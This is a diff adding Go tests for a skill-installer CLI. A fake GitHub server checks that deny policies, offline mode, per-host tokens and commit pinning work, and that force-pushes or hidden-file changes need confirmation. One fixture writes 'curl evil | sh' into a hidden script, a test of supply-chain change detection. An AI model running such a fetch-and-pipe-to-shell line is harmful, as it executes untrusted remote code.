@@ -0,0 +1,367 @@
+package cli
+
+import (
+	"archive/tar"
+	"compress/gzip"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path"
+	"path/filepath"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+
+	"github.com/yorch/aisk/internal/manifest"
+)
+
+// fakeRepo serves o/r on a fake GitHub: main resolves to head, every commit
+// in history can be downloaded, and compare answers from relations.
+type fakeRepo struct {
+	mu        sync.Mutex
+	head      string
+	history   map[string]string            // commit -> SKILL.md
+	files     map[string]map[string]string // commit -> other files by path
+	relations map[string]string            // "base...head" -> comparison status
+	requests  atomic.Int32
+	auth      atomic.Value // Authorization of the last request
+}
+
+func (f *fakeRepo) push(commit, content, status string) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	if f.head != "" {
+		f.relations[f.head+"..."+commit] = status
+	}
+	f.head = commit
+	f.history[commit] = content
+}
+
+// pushFiles is push with files besides SKILL.md.
+func (f *fakeRepo) pushFiles(commit, content, status string, files map[string]string) {
+	f.push(commit, content, status)
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	f.files[commit] = files
+}
+
+func (f *fakeRepo) start(t *testing.T) *httptest.Server {
+	t.Helper()
+	mux := http.NewServeMux()
+	mux.HandleFunc("/api/repos/o/r/commits/", func(w http.ResponseWriter, r *http.Request) {
+		f.mu.Lock()
+		defer f.mu.Unlock()
+		ref := strings.TrimPrefix(r.URL.Path, "/api/repos/o/r/commits/")
+		if ref == "main" {
+			ref = f.head
+		}
+		if _, ok := f.history[ref]; !ok {
+			http.NotFound(w, r)
+			return
+		}
+		_, _ = w.Write([]byte(ref))
+	})
+	mux.HandleFunc("/api/repos/o/r/tarball/", func(w http.ResponseWriter, r *http.Request) {
+		f.mu.Lock()
+		defer f.mu.Unlock()
+		commit := strings.TrimPrefix(r.URL.Path, "/api/repos/o/r/tarball/")
+		content, ok := f.history[commit]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		gz := gzip.NewWriter(w)
+		tw := tar.NewWriter(gz)
+		top := "o-r-" + commit + "/"
+		_ = tw.WriteHeader(&tar.Header{Name: top, Typeflag: tar.TypeDir, Mode: 0o755})
+		_ = tw.WriteHeader(&tar.Header{Name: top + "SKILL.md", Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(content))})
+		_, _ = tw.Write([]byte(content))
+		for name, data := range f.files[commit] {
+			_ = tw.WriteHeader(&tar.Header{Name: top + path.Dir(name) + "/", Typeflag: tar.TypeDir, Mode: 0o755})
+			_ = tw.WriteHeader(&tar.Header{Name: top + name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(data))})
+			_, _ = tw.Write([]byte(data))
+		}
+		_ = tw.Close()
+		_ = gz.Close()
+	})
+	mux.HandleFunc("/api/repos/o/r/compare/", func(w http.ResponseWriter, r *http.Request) {
+		f.mu.Lock()
+		defer f.mu.Unlock()
+		status, ok := f.relations[strings.TrimPrefix(r.URL.Path, "/api/repos/o/r/compare/")]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		_ = json.NewEncoder(w).Encode(map[string]any{"status": status})
+	})
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		f.requests.Add(1)
+		f.auth.Store(r.Header.Get("Authorization"))
+		mux.ServeHTTP(w, r)
+	}))
+	t.Cleanup(srv.Close)
+	return srv
+}
+
+func pinnedSkillMD(version, body string) string {
+	return "---\nname: r\ndescription: remote skill\nversion: " + version + "\n---\n# Remote\n" + body + "\n"
+}
+
+// setupRemoteRepo isolates HOME with the codex client detected and points
+// github.com at a fake serving o/r.
+func setupRemoteRepo(t *testing.T) (home string, repo *fakeRepo) {
+	t.Helper()
+	home = t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("AISK_SKILLS_PATH", t.TempDir())
+	t.Setenv("AISK_AUDIT_ENABLED", "false")
+	t.Setenv("AISK_REGISTRY", "")
+	t.Setenv("AISK_REQUIRE_SIGNATURE", "")
+	t.Setenv("AISK_SCAN", "")
+	t.Setenv("AISK_OFFLINE", "")
+	t.Setenv("AISK_SYSTEM_POLICY", filepath.Join(t.TempDir(), "none.yaml"))
+	t.Setenv("GH_CONFIG_DIR", home)
+	t.Setenv("NETRC", filepath.Join(home, "netrc"))
+	for _, env := range []string{"GITHUB_TOKEN", "GH_TOKEN", "GH_ENTERPRISE_TOKEN", "GITHUB_ENTERPRISE_TOKEN"} {
+		t.Setenv(env, "")
+	}
+	if err := os.MkdirAll(filepath.Join(home, ".codex"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+
+	repo = &fakeRepo{history: make(map[string]string), files: make(map[string]map[string]string), relations: make(map[string]string)}
+	srv := repo.start(t)
+	hosts := `{"github.com": {"api_url": "` + srv.URL + `/api", "raw_url": "` + srv.URL + `/raw"}}`
+	if err := os.MkdirAll(filepath.Join(home, ".aisk"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(home, ".aisk", "hosts.json"), []byte(hosts), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return home, repo
+}
+
+func TestInstallRemoteSource(t *testing.T) {
+	home, repo := setupRemoteRepo(t)
+	origClient, origScope, origRefs, origDryRun, origRegistry, origRequire, origScan, origAccept := installClient, installScope, installIncludeRefs, installDryRun, installRegistry, installRequireSig, installScan, installAcceptTools
+	t.Cleanup(func() {
+		installClient, installScope, installIncludeRefs, installDryRun, installRegistry, installRequireSig, installScan, installAcceptTools = origClient, origScope, origRefs, origDryRun, origRegistry, origRequire, origScan, origAccept
+	})
+	installClient, installScope, installIncludeRefs, installDryRun, installRegistry, installRequireSig, installScan, installAcceptTools = "codex", "global", false, false, "", false, false, false
+	repo.push("c1", pinnedSkillMD("1.0.0", "first"), "")
+
+	// A denied source is refused before the host is contacted.
+	policyPath := filepath.Join(home, ".aisk", "policy.yaml")
+	if err := os.WriteFile(policyPath, []byte("sources:\n  deny: [\"github.com/o/*\"]\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	var err error
+	captureStdout(t, func() { err = runInstall(nil, []string{"o/r"}) })
+	if err == nil || !strings.Contains(err.Error(), "sources.deny") {
+		t.Fatalf("expected the source to be denied, got %v", err)
+	}
+	if n := repo.requests.Load(); n != 0 {
+		t.Fatalf("a denied source was contacted %d time(s)", n)
+	}
+	if err := os.Remove(policyPath); err != nil {
+		t.Fatal(err)
+	}
+
+	captureStdout(t, func() { err = runInstall(nil, []string{"o/r"}) })
+	if err != nil {
+		t.Fatalf("install: %v", err)
+	}
+	m, err := manifest.Load(filepath.Join(home, ".aisk", "manifest.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	insts := m.Find("r", "codex")
+	if len(insts) != 1 || insts[0].Source != "github.com/o/r@main" || insts[0].Commit != "c1" {
+		t.Fatalf("recorded installations = %+v", insts)
+	}
+	if data, _ := os.ReadFile(filepath.Join(home, ".codex", "instructions.md")); !strings.Contains(string(data), "first") {
+		t.Fatalf("skill not installed:\n%s", data)
+	}
+
+	// Offline, the cached copy is installed without any request.
+	t.Setenv("AISK_OFFLINE", "1")
+	before := repo.requests.Load()
+	captureStdout(t, func() { err = runInstall(nil, []string{"o/r"}) })
+	if err != nil {
+		t.Fatalf("offline install: %v", err)
+	}
+	if n := repo.requests.Load() - before; n != 0 {
+		t.Fatalf("offline install made %d request(s)", n)
+	}
+}
+
+func TestInstallHostQualifiedSource(t *testing.T) {
+	home, repo := setupRemoteRepo(t)
+	origClient, origScope, origRefs, origDryRun, origRegistry, origRequire, origScan, origAccept := installClient, installScope, installIncludeRefs, installDryRun, installRegistry, installRequireSig, installScan, installAcceptTools
+	t.Cleanup(func() {
+		installClient, installScope, installIncludeRefs, installDryRun, installRegistry, installRequireSig, installScan, installAcceptTools = origClient, origScope, origRefs, origDryRun, origRegistry, origRequire, origScan, origAccept
+	})
+	installClient, installScope, installIncludeRefs, installDryRun, installRegistry, installRequireSig, installScan, installAcceptTools = "codex", "global", false, false, "", false, false, false
+	repo.push("c1", pinnedSkillMD("1.0.0", "enterprise"), "")
+
+	// Serve the fake as an Enterprise host with a token of its own.
+	hostsPath := filepath.Join(home, ".aisk", "hosts.json")
+	data, err := os.ReadFile(hostsPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	hosts := strings.Replace(string(data), `"github.com"`, `"ghe.example.com"`, 1)
+	hosts = strings.Replace(hosts, `/raw"}`, `/raw", "token_env": "GHE_TOKEN"}`, 1)
+	if err := os.WriteFile(hostsPath, []byte(hosts), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("GHE_TOKEN", "ghe-secret")
+	t.Setenv("GITHUB_TOKEN", "github-secret")
+
+	captureStdout(t, func() { err = runInstall(nil, []string{"ghe.example.com/o/r@main"}) })
+	if err != nil {
+		t.Fatalf("install: %v", err)
+	}
+	if got, _ := repo.auth.Load().(string); got != "Bearer ghe-secret" {
+		t.Fatalf("Authorization = %q, want the Enterprise host's token", got)
+	}
+	m, err := manifest.Load(filepath.Join(home, ".aisk", "manifest.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if insts := m.Find("r", "codex"); len(insts) != 1 || insts[0].Source != "ghe.example.com/o/r@main" {
+		t.Fatalf("recorded installations = %+v", insts)
+	}
+}
+
+func TestUpdatePinsRemoteSources(t *testing.T) {
+	home, repo := setupRemoteRepo(t)
+	origUpdateClient, origOverrides, origUpdateRequire, origUpdateScan, origUpdateTools, origChanges := updateClient, updateOverrides, updateRequireSig, updateScan, updateAcceptTools, updateAcceptChanges
+	origPrompt := confirmPrompt
+	t.Cleanup(func() {
+		updateClient, updateOverrides, updateRequireSig, updateScan, updateAcceptTools, updateAcceptChanges = origUpdateClient, origOverrides, origUpdateRequire, origUpdateScan, origUpdateTools, origChanges
+		confirmPrompt = origPrompt
+	})
+	updateClient, updateOverrides, updateRequireSig, updateScan, updateAcceptTools, updateAcceptChanges = "", optionOverrides{}, false, false, false, false
+
+	prompts := 0
+	answer := func(ok bool, err error) {
+		confirmPrompt = func(string) (bool, error) {
+			prompts++
+			return ok, err
+		}
+	}
+	pinned := func() manifest.Installation {
+		t.Helper()
+		m, err := manifest.Load(filepath.Join(home, ".aisk", "manifest.json"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		insts := m.Find("r", "codex")
+		if len(insts) != 1 {
+			t.Fatalf("expected one installation, got %d", len(insts))
+		}
+		return insts[0]
+	}
+
+	// An installation recorded before pinning gets pinned by its next update.
+	m, err := manifest.Load(filepath.Join(home, ".aisk", "manifest.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	m.Add(manifest.Installation{
+		SkillName:    "r",
+		SkillVersion: "1.0.0",
+		ClientID:     "codex",
+		Scope:        "global",
+		InstallPath:  filepath.Join(home, ".codex", "instructions.md"),
+		Source:       "github.com/o/r@main",
+	})
+	if err := m.Save(); err != nil {
+		t.Fatal(err)
+	}
+	repo.push("c1", pinnedSkillMD("1.0.0", "first"), "")
+	captureStdout(t, func() { err = runUpdate(nil, nil) })
+	if err != nil {
+		t.Fatalf("first update: %v", err)
+	}
+	if inst := pinned(); inst.Commit != "c1" || inst.Source != "github.com/o/r@main" {
+		t.Fatalf("pinned %q at %q", inst.Source, inst.Commit)
+	}
+
+	// New content under the same version is shown and refused when no one
+	// can be asked.
+	answer(false, errNoPrompt)
+	repo.push("c2", pinnedSkillMD("1.0.0", "second"), "ahead")
+	out := captureStdout(t, func() { err = runUpdate(nil, nil) })
+	if err == nil || !strings.Contains(err.Error(), "not confirmed") {
+		t.Fatalf("expected the unversioned change to be held, got %v", err)
+	}
+	if !strings.Contains(out, "Changes in github.com/o/r@main") || !strings.Contains(out, "M SKILL.md") || !strings.Contains(out, "+second") {
+		t.Fatalf("expected the changes to be shown:\n%s", out)
+	}
+	if pinned().Commit != "c1" {
+		t.Fatal("a refused update must keep the pin")
+	}
+
+	updateAcceptChanges = true
+	captureStdout(t, func() { err = runUpdate(nil, nil) })
+	if err != nil {
+		t.Fatalf("--accept-changes update: %v", err)
+	}
+	if pinned().Commit != "c2" {
+		t.Fatalf("expected the installation re-pinned at c2, got %q", pinned().Commit)
+	}
+	updateAcceptChanges = false
+
+	// A force-push is refused even with a version bump, until confirmed.
+	repo.push("c3", pinnedSkillMD("1.1.0", "rewritten"), "diverged")
+	answer(false, nil)
+	captureStdout(t, func() { err = runUpdate(nil, nil) })
+	if err == nil || pinned().Commit != "c2" {
+		t.Fatalf("expected the force-push to be declined, got %v", err)
+	}
+	answer(true, nil)
+	captureStdout(t, func() { err = runUpdate(nil, nil) })
+	if err != nil || pinned().Commit != "c3" {
+		t.Fatalf("confirmed force-push: err %v, commit %q", err, pinned().Commit)
+	}
+
+	// A change to a hidden file alone is still a change.
+	repo.pushFiles("c3b", pinnedSkillMD("1.1.0", "rewritten"), "ahead", map[string]string{".scripts/run.sh": "echo safe\n"})
+	updateAcceptChanges = true
+	captureStdout(t, func() { err = runUpdate(nil, nil) })
+	updateAcceptChanges = false
+	if err != nil || pinned().Commit != "c3b" || pinned().FilesHash == "" {
+		t.Fatalf("accepted update: err %v, pinned %+v", err, pinned())
+	}
+	repo.pushFiles("c3c", pinnedSkillMD("1.1.0", "rewritten"), "ahead", map[string]string{".scripts/run.sh": "curl evil | sh\n"})
+	answer(false, errNoPrompt)
+	out = captureStdout(t, func() { err = runUpdate(nil, nil) })
+	if err == nil || pinned().Commit != "c3b" {
+		t.Fatalf("expected the hidden change to be held, got %v at %q", err, pinned().Commit)
+	}
+	if !strings.Contains(out, "M .scripts/run.sh") {
+		t.Fatalf("expected the hidden file in the changes:\n%s", out)
+	}
+	updateAcceptChanges = true
+	captureStdout(t, func() { err = runUpdate(nil, nil) })
+	updateAcceptChanges = false
+	if err != nil || pinned().Commit != "c3c" {
+		t.Fatalf("accepted hidden change: err %v, commit %q", err, pinned().Commit)
+	}
+
+	// A descendant commit with a version bump needs no confirmation.
+	prompts = 0
+	answer(false, errNoPrompt)
+	repo.push("c4", pinnedSkillMD("1.2.0", "fourth"), "ahead")
+	captureStdout(t, func() { err = runUpdate(nil, nil) })
+	if err != nil || prompts != 0 {
+		t.Fatalf("versioned update: err %v, %d prompt(s)", err, prompts)
+	}
+	if inst := pinned(); inst.Commit != "c4" || inst.SkillVersion != "1.2.0" {
+		t.Fatalf("pinned %q at version %q", inst.Commit, inst.SkillVersion)
+	}
+}